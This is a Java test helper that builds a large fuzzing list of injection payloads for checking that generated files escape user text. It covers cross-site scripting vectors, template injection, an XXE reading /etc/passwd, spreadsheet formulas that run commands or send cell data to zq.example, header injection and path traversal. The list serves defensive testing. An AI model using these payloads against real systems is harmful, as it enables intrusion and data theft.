package dev.assay.testing;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;

/// Texts by which somebody may try to get out of the place where a text stands: elements, attributes, addresses, scripts, templates,
/// lines of other formats. Whatever gets out is called `zq…`, so that [FinishedFiles] knows it by its name.
public final class Payloads {
  private Payloads() {}

  /// What may end the place.
  private static final List<String> WAYS_OUT =
      List.of(
          "", "\">", "'>", "`>", "\\\">", "-->", "--!>", "]]>", "?>", "%>", "*/", "</title>", "</style>", "</script>", "</textarea>", "</noscript>", "</template>",
          "</svg>", "</math>", "</a>", "</h1></main>", "</select>", "</code></pre>", "&quot;&gt;", "&#34;&#62;", "&#x22;&#x3E;", "%22%3E", "\\u0022\\u003e", "\" zq=\"1\">",
          "<!--", "<![CDATA[", "<!-- --!>", "<a href=\"", "<b title='");

  /// What may come in then.
  private static final List<String> ELEMENTS =
      List.of(
          "<zq-x>zq</zq-x>", "<script>zq()</script>", "<img src=x onerror=zq()>", "<svg onload=zq()><zq-y/></svg>", "<iframe srcdoc='<script>zq()</script>'></iframe>");

  private static final List<String> MORE_ELEMENTS =
      List.of(
          "<ZQ-X>", "<zq-x/onclick=zq()>", "<zq-x\tonclick=zq()>", "<zq-x\fonclick=zq()>", "< zq-x>", "<\u0000zq-x>", "<zq-x", "<<zq-x>>", "<//zq-x>", "<scr<script>ipt>zq()</scr</script>ipt>",
          "<SCRIPT SRC=//zq.example/x.js></SCRIPT>", "<script\u3000>zq()</script>", "<script/zq src=data:,zq()></script>", "<script>zq()</script", "<script type=module>import'//zq.example'</script>",
          "<style>*{background:url(//zq.example)}</style>", "<style>@import'//zq.example';</style>", "<link rel=stylesheet href=//zq.example>", "<link rel=import href=//zq.example>", "<base href=//zq.example/>",
          "<meta http-equiv=refresh content='0;url=javascript:zq()'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<object data=javascript:zq()>", "<embed src=javascript:zq()>",
          "<applet code=zq>", "<form action=javascript:zq()><button>zq</button></form>", "<button formaction=javascript:zq()>zq", "<input autofocus onfocus=zq()>", "<select autofocus onfocus=zq()>",
          "<textarea autofocus onfocus=zq()>", "<keygen autofocus onfocus=zq()>", "<video><source onerror=zq()></video>", "<video poster=javascript:zq()>", "<audio src=x onerror=zq()>", "<details open ontoggle=zq()>x",
          "<marquee onstart=zq()>", "<body onload=zq()>", "<frameset onload=zq()>", "<table background=javascript:zq()>", "<td background=javascript:zq()>", "<div style=background:url(javascript:zq())>x</div>",
          "<div style=\"width:expression(zq())\">x</div>", "<p style=animation-name:x onanimationstart=zq()>", "<isindex type=image src=1 onerror=zq()>", "<xss onpointerenter=zq()>x", "<a href=x onclick=zq()>x</a>",
          "<img src=x:zq onerror=eval(src)>", "<img src=`x`onerror=zq()>", "<img/src=x/onerror=zq()>", "<img srcset='x' onerror=zq()>", "<img src onerror=zq() title=\"", "<picture><source srcset=x onerror=zq()><img></picture>",
          "<svg><script>zq()</script></svg>", "<svg><script xlink:href=data:,zq() /></svg>", "<svg><a xlink:href=javascript:zq()><text>x</text></a></svg>", "<svg><animate onbegin=zq() attributeName=x>",
          "<svg><set attributeName=href to=javascript:zq()>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>zq()</script></svg>#x'/></svg>",
          "<svg><foreignObject><zq-x></foreignObject></svg>", "<svg><style><img src=x onerror=zq()></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=zq()>\">",
          "<math><mtext></mtext><mglyph><style><img src=x onerror=zq()></style></mglyph></math>", "<math href=javascript:zq()>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:zq()>x</maction></math>",
          "<math><annotation-xml encoding=text/html><zq-x></annotation-xml></math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=zq()&gt;\">",
          "<form><math><mtext></form><form><mglyph><style></math><img src onerror=zq()>", "<noscript><p title=\"</noscript><img src=x onerror=zq()>\">", "<title><zq-x></title>", "<xmp><zq-x></xmp>", "<plaintext><zq-x>",
          "<noembed><zq-x></noembed>", "<template><zq-x></template>", "<table><zq-x><tr><td>", "<select><zq-x></select>", "<b title=`\"><zq-x>`>x</b>", "<b title='\"><zq-x>'>x</b>", "<a title=\"x\" href=\"x\" onclick=zq()>x</a>",
          "<!DOCTYPE zq [<!ENTITY zq SYSTEM \"file:///etc/passwd\">]>&zq;", "<?xml-stylesheet href=\"javascript:zq()\"?>", "<?php zq() ?>", "<?zq ?>", "<!zq>", "</zq-x>", "<%= zq %>", "&zq;", "&lt;zq-x&gt;",
          "&amp;lt;zq-x&amp;gt;", "&#60;zq-x&#62;", "&#x3c;zq-x&#x3e;", "&#0060zq-x&#0062", "&LT;zq-x&GT;", "\\x3czq-x\\x3e", "\\u003czq-x\\u003e", "%3Czq-x%3E", "%253Czq-x%253E", "+ADw-zq-x+AD4-", "\uff1czq-x\uff1e",
          "\u2039zq-x\u203a", "\ufeff<zq-x>", "\u202e<zq-x>\u202c", "\u200b<zq-x>", "\ud83d\ude00<zq-x>", "\u0301<zq-x>", "\u1680<zq-x>", "\u2028<zq-x>", "\u2029<zq-x>", "\u0085<zq-x>", "\u001b]0;zq\u0007", "\u009b31mzq");

  private static final List<String> ATTRIBUTES =
      List.of(
          "\" onclick=\"zq()", "' onclick='zq()", "` onclick=`zq()", "\" zq=\"1", "' zq='1", "x zq=1", "x\" zq=1 y=\"", "x' zq=1 y='", "\"\tzq=\"1", "\"\nzq=\"1", "\"/zq=\"1", "\"\fzq=\"1", "\\\" zq=\\\"1",
          "&quot; zq=&quot;1", "&#34; zq=&#34;1", "&#x22 zq=&#x22 1", "&QUOT; zq=1", "%22 zq=%221", "\u201c zq=\u201d1", "\uff02 zq=\uff021", "\u02ba zq=1", "\" style=\"color:red", "\" srcdoc=\"<zq-x>", "\" autofocus onfocus=\"zq()",
          "\" href=\"javascript:zq()", "\" src=\"//zq.example\" zq=\"", "\" formaction=\"javascript:zq()", "\" http-equiv=\"refresh\" content=\"0;url=//zq.example", "\" is=\"zq-x", "\" data-zq=\"1");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:zq()", "JavaScript:zq()", "JAVASCRIPT:zq()", "javascript&colon;zq()", "javascript&#58;zq()", "javascript&#x3a;zq()", "javascript&#0000058zq()", "&#106;avascript:zq()", "&#x6A;avascript:zq()",
          "&#0000106avascript:zq()", "java&Tab;script:zq()", "java&NewLine;script:zq()", "java&#9;script:zq()", "java&#10;script:zq()", "java&#13;script:zq()", "java\tscript:zq()", "java\u0000script:zq()", "java\u0001script:zq()",
          "\u0001javascript:zq()", "\u001fjavascript:zq()", " javascript:zq()", "\u00a0javascript:zq()", "\u3000javascript:zq()", "\ufeffjavascript:zq()", "\u200bjavascript:zq()", "java\u00adscript:zq()", "java\u200bscript:zq()",
          "javascript\u200b:zq()", "javascript :zq()", "javascript\t:zq()", "javascript\uff1azq()", "\uff4aavascript:zq()", "java%0ascript:zq()", "java%09script:zq()", "%6aavascript:zq()", "javascript%3azq()",
          "%256aavascript:zq()", "\\javascript:zq()", "javascript\\:zq()", "java\\script:zq()", "javascript://example.org/%0azq()", "javascript:/*--></title></style></textarea></script></xmp><zq-x>/**/zq()", "javascript:zq()//http://x",
          "http:javascript:zq()", "https:javascript:zq()", "feed:javascript:zq()", "view-source:javascript:zq()", "jar:javascript:zq()!/", "url=javascript:zq()", "./javascript:zq()", "?javascript:zq()", "#javascript:zq()", "livescript:zq()",
          "mocha:zq()", "vbscript:zq()", "VBScript:zq()", "vbs:zq()", "data:text/html,<zq-x>", "data:text/html;base64,PHpxLXg+", "DATA:text/html,<script>zq()</script>", "data:,zq", "data:image/svg+xml,<svg onload=zq()>",
          "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9enEoKT4=", "data:image/png,<zq-x>", "data:image/png;base64,AA\" zq=\"1", "data:text/javascript,zq()", "data:application/xhtml+xml,<zq-x/>", "da\tta:text/html,zq", "blob:https://zq.example/1",
          "filesystem:https://zq.example/x", "file:///etc/passwd", "about:blank#zq", "chrome://zq", "intent://zq#Intent;end", "ms-msdt:/id zq", "ssh://zq", "ldap://zq.example", "//zq.example/", "///zq.example/", "\\\\zq.example\\", "/\\zq.example/",
          "/\t/zq.example/", "https:zq.example", "https:\\\\zq.example", "http://zq.example\"onclick=\"zq()", "http://zq.example/'onclick='zq()", "http://zq.example/<zq-x>", "http://a:b@zq.example/", "mailto:a@b.example?bcc=zq@zq.example&body=<zq-x>",
          "tel:\"><zq-x>", "http://[::1]/zq", "http://zq.example:99999/", "http://%zq/", "http://zq\u3002example/", "https://zq.example/\u202egpj.exe");

  private static final List<String> CODE =
      List.of(
          "${\"freemarker.template.utility.Execute\"?new()(\"zq\")}", "${7*191}", "#{7*191}", "<#assign zq=1>${zq}", "<@zq/>", "${.data_model}", "[#if zq]", "{{7*191}}", "{{constructor.constructor('zq()')()}}", "{% zq %}", "${zq?interpret}", "$zq", "@{zq}",
          "\";zq();//", "';zq();//", "\\\";zq();//", "\\';zq();//", "`;zq();//", "${zq()}", "</script><script>zq()//", "<!--<script>zq", "]]></script><zq-x>", "\"},\"zq\":{\"", "\"],\"zq\":[\"", "\"}}]}<zq-x>", "\\u0022,\\u0022zq\\u0022:1", "\\", "\\\\", "\\\"", "\"", "'", "\"\"",
          "}", "};zq()", "*/zq()/*", "//zq", "{ \"zq\" : 1 }", "\u2028zq()//", "__proto__", "constructor", "hasOwnProperty", "toString", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://zq.example/\"&A1,\"zq\")", "=1+1", "+1+cmd|'zq'!A1", "-1+cmd|'zq'!A1", "-2+SUM(A1:A9)", "@SUM(A1:A9)",
          "\t=1+1", " =1+1", "\uff1d1+1", "=WEBSERVICE(\"https://zq.example\")", "=IMPORTXML(CONCAT(\"https://zq.example/\",A1),\"//a\")", "='file:///etc/passwd'#$passwd.A1", "%0D%0Azq: 1", "\r\nzq: 1", "\nzq: 1", "\r\nBcc: zq@zq.example", "\r\n\r\n<zq-x>", "\nATTACH:https://zq.example", "\r\nEND:VEVENT\r\nBEGIN:VALARM",
          "\nBEGIN:ZQ", ";ZQ=1:x", "\nER  - \nTY  - ZQ", "\nZQ  - 1", "}, zq = {1", "} @misc{zq, title={x}", "\\input{/etc/passwd}", "\\immediate\\write18{zq}", "{\\catcode`\\@=0 zq}", "%zq", "# zq", "\n# zq", "- zq\n  zq: 1", "&zq *zq", "!!javax.script.ScriptEngineManager [zq]", "<< : *zq",
          "../../../../etc/passwd", "..\\..\\zq", "C:\\zq", "/etc/passwd", "CON", "zq\u0000.png", ".", "..", "/", "zq/../zq", "%2e%2e%2fzq", "~", "*", "|", "a|b", "\\|", "[zq](javascript:zq())", "![zq](javascript:zq())", "[zq]: javascript:zq()", "<javascript:zq()>",
          "[zq](x \"\\\" onclick=zq()\")", "![\" onerror=zq()](x)", "**<zq-x>**", "`<zq-x>`", "```<zq-x>", "~~~\" onclick=zq()", "{onclick=zq()}", "{.zq\" onclick=zq()}", "{#zq\" onclick=zq()}", "[^zq]: <zq-x>", "$\\href{javascript:zq()}{x}$", "$\\text{<zq-x>}$", "$\\unicode{60}$", "| <zq-x> | \n|-|",
          ":::{details} <zq-x>", "{cost}`<zq-x>`", "[Fact](javascript:zq()) zq", "[@zq]", "@zq", "> [!NOTE] <zq-x>", "{{< zq >}}", "{% raw %}", "(zq", ")zq", "[zq", "]zq", "<", ">", "&", "&&", "&#", "&#0;", "&#xd800;", "&#x110000;", "\uffff", "\ufffe", "\u0008zq", "a\u0300\u0301\u0302", "\u202ezq\u202d");

  /// All, each once.
  public static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    for (String out : WAYS_OUT) {
      for (String element : ELEMENTS) {
        all.add(out + element);
      }
    }
    all.addAll(MORE_ELEMENTS);
    all.addAll(ATTRIBUTES);
    all.addAll(ADDRESSES);
    all.addAll(CODE);
    return new ArrayList<>(all);
  }

  /// A number of them, from every part of the list.
  public static List<String> some(int number) {
    List<String> all = all();
    return IntStream.range(0, number).mapToObj(i -> all.get((int) ((long) i * all.size() / number))).toList();
  }

  /// Those in which an address is meant.
  public static List<String> addresses() {
    return ADDRESSES;
  }
}
